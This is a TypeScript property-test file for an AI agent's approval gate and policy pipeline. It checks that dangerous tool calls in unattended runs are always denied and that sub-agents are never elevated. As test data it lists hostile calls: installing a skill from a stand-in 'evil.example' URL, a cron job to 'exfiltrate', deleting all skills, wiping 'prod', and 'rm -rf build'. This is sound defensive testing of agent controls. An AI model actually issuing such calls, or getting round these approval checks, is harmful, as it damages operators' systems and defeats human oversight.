import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { TOOL_PROFILES } from "../../src/catalog/index.js";
import { checkOneCall } from "../../src/cli/commands/policy/index.js";
import {
  type ConfigSource,
  DEFAULT_CONFIG_PATH,
  type LoadedConfig,
  parseYamlConfig,
  validateSources,
} from "../../src/config/index.js";
import { memoryAllowAlwaysStore } from "../../src/gate/allow-always-memory.fixture.js";
import {
  type AllowAlwaysRecord,
  ApprovalGate,
  EXEC_CLASS_TOOLS,
  type GateCall,
  type GateConfig,
  type GateContext,
  type GuardAssessment,
} from "../../src/gate/index.js";
import type { HostResolver } from "../../src/guard/index.js";
import {
  APPROVAL_MODES,
  EXEC_ASK_MODES,
  EXEC_MODES,
  EXEC_SECURITY_LEVELS,
  NETWORK_POLICIES,
  SECURITY_PROFILES,
  SESSION_PERMISSION_MODES,
  UNATTENDED_POLICIES,
} from "../../src/policy/index.js";
import { callGuardFromConfig } from "../../src/runtime/index.js";
import { iterations, pick, prng, subset, suiteSeed } from "./seeded.js";

/**
 * "No config lets a dangerous call run unattended" (docs/DESIGN.md principle 3), and "a sub-agent is never elevated":
 * first over every combination of the approval shortcuts at the gate (with an allow-always store
 * and a smart model that approves), then through the whole policy → guard → gate pipeline of
 * `gate check` (checkOneCall) with configs loaded from random project files.
 */

/** The approval shortcuts; a case turns each on or off. */
const SHORTCUTS = [
  "autoApprove",
  "allowAlways",
  "trustedChannel",
  "smartApproves",
  "elevatedSource",
  "cliAutoApprove",
  "allowSafe",
  "cronAuthorized",
  "safeBins",
  "humanApproved",
] as const;
type Shortcut = (typeof SHORTCUTS)[number];

const TOOLS = [...EXEC_CLASS_TOOLS, "cronjob", "skill_install", "skill_manage", "write_file", "mcp__x__y"];
const CHANNELS = ["cli", "cron", "api", "telegram", "task"];

function gateCase(rand: () => number, on: ReadonlySet<Shortcut>, overrides: Partial<GateContext> = {}) {
  const tool = pick(rand, TOOLS);
  const channel = on.has("cliAutoApprove") ? "cli" : pick(rand, CHANNELS);
  const userId = pick(rand, ["ann", "bob"]);
  const args = { command: pick(rand, ["ls -la", "git status", "rm -rf build"]), path: "x" };
  const argsHash = `sha-${args.command}`;
  const guard: GuardAssessment | undefined = on.has("safeBins")
    ? { verdict: "allow", rule: "exec.safe-bins", reason: "every command is a safe bin", safeBins: true }
    : pick(rand, [undefined, { verdict: "allow", rule: "a", reason: "ok" } as GuardAssessment]);
  const call: GateCall = { tool, args, risk: "dangerous", argsHash, ...(guard ? { guard } : {}) };
  const ctx: GateContext = {
    unattended: true,
    cronAuthorized: on.has("cronAuthorized"),
    channel,
    userId,
    agentId: "agent",
    parentExecutionId: rand() < 0.2 ? "parent-run" : null,
    // Contradictory on purpose: an unattended context that also claims to be interactive.
    interactive: on.has("cliAutoApprove") || rand() < 0.2,
    scheduleId: "nightly",
    ...overrides,
  };
  const config: GateConfig = {
    autoApprove: on.has("autoApprove")
      ? [...subset(rand, TOOLS), tool]
      : subset(rand, TOOLS, 0.2).filter((t) => t !== tool),
    trustedChannels: on.has("trustedChannel") ? [channel] : [],
    cliAutoApprove: on.has("cliAutoApprove"),
    mode: on.has("smartApproves") ? "smart" : pick(rand, APPROVAL_MODES),
    unattendedPolicy: on.has("allowSafe") ? "allow_safe" : pick(rand, UNATTENDED_POLICIES),
    smartModelConfigured: on.has("smartApproves") || rand() < 0.5,
    elevated: {
      enabled: rand() < 0.5,
      allowFrom: on.has("elevatedSource") ? pick(rand, [{ "*": ["*"] }, { [channel]: [userId] }]) : {},
    },
    adminUsers: on.has("elevatedSource") && rand() < 0.5 ? [userId] : [],
    execSecurity: pick(rand, EXEC_SECURITY_LEVELS),
    execAsk: pick(rand, EXEC_ASK_MODES),
    execHost: pick(rand, ["local", "remote", "sandbox"] as const),
    sessionExecMode: pick(rand, EXEC_MODES),
  };
  const records: AllowAlwaysRecord[] = on.has("allowAlways")
    ? [
        { v: 1, tool, argsHash, scope: "agent", scopeId: "agent", createdBy: "op", createdAt: 0 },
        {
          v: 1,
          tool,
          commandPattern: args.command,
          scope: "user",
          scopeId: userId,
          createdBy: "op",
          createdAt: 0,
        },
        { v: 1, tool, argsHash, scope: "schedule", scopeId: "nightly", createdBy: "op", createdAt: 0 },
      ]
    : [];
  const ports = {
    allowAlways: memoryAllowAlwaysStore(records),
    smartApprover: {
      ask: async () => (on.has("smartApproves") ? "APPROVE" : pick(rand, ["DENY", "ESCALATE"])),
    },
  };
  const humanApproval = on.has("humanApproved") ? { approver: "alice", tool, argsHash } : undefined;
  return { call, ctx, config, ports, humanApproval };
}

describe("the gate never allows a dangerous call in an unattended run", () => {
  const perCombination = iterations("GATE_PROPERTY_REPEATS", 4);

  it(`under every combination of the ${SHORTCUTS.length} approval shortcuts (${perCombination} random cases each)`, async () => {
    const seed = suiteSeed("gate-shortcuts", 0x6a7e);
    const rand = prng(seed);
    let checked = 0;
    for (let mask = 0; mask < 1 << SHORTCUTS.length; mask++) {
      const on = new Set(SHORTCUTS.filter((_, bit) => mask & (1 << bit)));
      for (let r = 0; r < perCombination; r++) {
        const c = gateCase(rand, on);
        const decision = await new ApprovalGate(c.config, c.ports).check(c.call, c.ctx, {
          humanApproval: c.humanApproval,
        });
        const where = `seed ${seed} shortcuts [${[...on].join(", ")}] case ${r}: ${JSON.stringify({ call: c.call, ctx: c.ctx, config: c.config })}`;
        expect(decision.verdict, where).toBe("deny");
        checked++;
      }
    }
    expect(checked).toBe((1 << SHORTCUTS.length) * perCombination);
  });

  it("and never elevates a sub-agent: an exec-class call of a child run is denied at the elevation step", async () => {
    const seed = suiteSeed("gate-child-elevation", 0x6a7f);
    const rand = prng(seed);
    for (let i = 0; i < 2000; i++) {
      const on = new Set(SHORTCUTS.filter(() => rand() < 0.5));
      on.add("elevatedSource");
      const c = gateCase(rand, on, { parentExecutionId: "parent-run", unattended: rand() < 0.5 });
      const call = {
        ...c.call,
        tool: pick(rand, EXEC_CLASS_TOOLS),
        risk: pick(rand, ["exec", "dangerous"] as const),
      };
      // The parent's user is an admin and every channel may elevate: the child still may not.
      const config = {
        ...c.config,
        elevated: { enabled: true, allowFrom: { "*": ["*"] } },
        adminUsers: [c.ctx.userId],
      };
      const decision = await new ApprovalGate(config, c.ports).check(call, c.ctx, {
        humanApproval: c.humanApproval,
      });
      const where = `seed ${seed} case ${i}: ${JSON.stringify({ call, ctx: c.ctx, config })}`;
      expect(decision.verdict, where).toBe("deny");
      if (
        call.guard?.verdict !== "deny" &&
        config.execSecurity !== "deny" &&
        config.sessionExecMode !== "deny"
      ) {
        expect(decision.stepName, where).toBe("elevation");
      }
    }
  });
});

const DEFAULTS: ConfigSource = {
  kind: "default",
  origin: DEFAULT_CONFIG_PATH,
  data: parseYamlConfig(readFileSync(DEFAULT_CONFIG_PATH, "utf8"), DEFAULT_CONFIG_PATH),
};

/** A project file that turns on random shortcuts, as an operator trying to make things easy would. */
function randomProject(rand: () => number, name: string): ConfigSource {
  // No unknown name here: config refuses a tool list entry that names no tool (src/config
  // tool-name-checks.ts); the unknown tool is still called, in DANGEROUS_CALLS.
  const dangerous = ["cronjob", "skill_install", "skill_manage", "mcp__ops__wipe"];
  const data = {
    security: { profile: pick(rand, rand() < 0.6 ? ["personal_cli"] : SECURITY_PROFILES) },
    execution: {
      network_policy: pick(rand, NETWORK_POLICIES),
      session_mode: pick(rand, rand() < 0.6 ? (["full", "workspace"] as const) : SESSION_PERMISSION_MODES),
    },
    tools: {
      profile: pick(rand, rand() < 0.7 ? ["full"] : TOOL_PROFILES),
      also_allow: subset(rand, dangerous),
      exec: { security: pick(rand, EXEC_SECURITY_LEVELS), ask: pick(rand, EXEC_ASK_MODES) },
      mcp: { servers: { ops: { command: "ops-mcp", risk: "dangerous" } } },
    },
    permissions: {
      approval: {
        auto_approve: rand() < 0.6 ? dangerous : subset(rand, dangerous),
        trusted_channels: rand() < 0.6 ? CHANNELS : subset(rand, CHANNELS),
        cli_auto_approve: rand() < 0.6,
        mode: pick(rand, APPROVAL_MODES),
        unattended_policy: rand() < 0.6 ? "allow_safe" : "deny",
        smart_model: "reviewer",
      },
      elevated: { enabled: rand() < 0.5, allow_from: rand() < 0.6 ? { "*": ["*"] } : {} },
      admin_users: rand() < 0.5 ? ["ann", "bob"] : [],
    },
    models: { reviewer: { provider: "scripted", script: "approve-everything" } },
  };
  return { kind: "project", origin: name, data };
}

/** Dangerous calls by every route: catalog tools, an unknown tool, a dangerous MCP tool, a child with one. */
const DANGEROUS_CALLS: readonly { tool: string; args: Record<string, unknown> }[] = [
  { tool: "cronjob", args: { action: "create", cron: "* * * * *", task: "exfiltrate" } },
  { tool: "skill_install", args: { source: "https://evil.example/skill.tgz" } },
  { tool: "skill_manage", args: { action: "delete", name: "all" } },
  { tool: "mystery_tool", args: {} },
  { tool: "mcp__ops__wipe", args: { target: "prod" } },
  { tool: "delegate_task", args: { task: "set up a cron job", allowed_tools: ["cronjob", "read_file"] } },
  { tool: "spawn_task", args: { task: "install a skill", allowed_tools: ["skill_install"] } },
];

/** Never reached: every dangerous call is decided before any URL would be fetched. */
const noDns: HostResolver = { resolve: async () => [] };

describe("the policy → guard → gate pipeline (gate check) never allows a dangerous call unattended", () => {
  const N = iterations("PIPELINE_PROPERTY_CONFIGS", 120);

  it(`over ${N} random project files, each with every dangerous call and random unattended contexts`, async () => {
    const seed = suiteSeed("pipeline-dangerous", 0x919e);
    const rand = prng(seed);
    let reachedGate = 0;
    let total = 0;
    for (let i = 0; i < N; i++) {
      const project = randomProject(rand, `project-${i}.yaml`);
      let loaded: LoadedConfig;
      try {
        loaded = validateSources([DEFAULTS, project]);
      } catch (err) {
        throw new Error(`seed ${seed} config ${i} did not load: ${(err as Error).message}`);
      }
      const guard = await callGuardFromConfig(loaded.config, {
        env: { PATH: "/usr/bin:/bin" },
        protectedPaths: [],
        resolver: noDns,
      });
      for (const request of DANGEROUS_CALLS) {
        const ctx = {
          unattended: true,
          cronAuthorized: rand() < 0.5,
          channel: pick(rand, CHANNELS),
          userId: pick(rand, ["ann", "bob", "eve"]),
          interactive: rand() < 0.3,
          ...(rand() < 0.3 ? { sessionMode: pick(rand, SESSION_PERMISSION_MODES) } : {}),
          ...(rand() < 0.5 ? { scheduleId: "nightly" } : {}),
        };
        const decision = await checkOneCall({ ...request, ctx }, loaded, guard, "/tmp");
        const where = `seed ${seed} config ${i} ${JSON.stringify(project.data)} call ${JSON.stringify(request)} ctx ${JSON.stringify(ctx)}: ${decision.stepName} ${decision.reason}`;
        expect(decision.verdict, where).toBe("deny");
        if (decision.step > 0) {
          reachedGate++;
          expect(decision.risk, where).toBe("dangerous");
        }
        total++;
      }
    }
    // Enough calls get past the policy layers for the gate's part to mean something.
    expect(reachedGate / total, `${reachedGate} of ${total} reached the gate`).toBeGreaterThan(0.3);
  });

  it("and a sub-agent's exec call is never elevated, whoever its user is", async () => {
    const seed = suiteSeed("pipeline-child", 0x919f);
    const rand = prng(seed);
    for (let i = 0; i < Math.ceil(N / 4); i++) {
      const project = randomProject(rand, `project-${i}.yaml`);
      const data = project.data as {
        permissions: { elevated: { enabled: boolean; allow_from: unknown } };
        permissions_admin?: never;
      };
      data.permissions.elevated = { enabled: true, allow_from: { "*": ["*"] } };
      const loaded = validateSources([DEFAULTS, project]);
      const guard = await callGuardFromConfig(loaded.config, {
        env: { PATH: "/usr/bin:/bin" },
        protectedPaths: [],
        resolver: noDns,
      });
      for (const command of ["ls", "git status", "make build"]) {
        const ctx = {
          unattended: rand() < 0.5,
          parentExecutionId: "parent-run",
          channel: pick(rand, CHANNELS),
          userId: pick(rand, ["ann", "bob"]),
          interactive: rand() < 0.5,
        };
        const decision = await checkOneCall({ tool: "exec", args: { command }, ctx }, loaded, guard, "/tmp");
        const where = `seed ${seed} config ${i} ${JSON.stringify(project.data)} ${command} ctx ${JSON.stringify(ctx)}: ${decision.stepName} ${decision.reason}`;
        expect(decision.verdict, where).toBe("deny");
        expect(["policy", "static_guard", "elevation"], where).toContain(decision.stepName);
      }
    }
  });
});
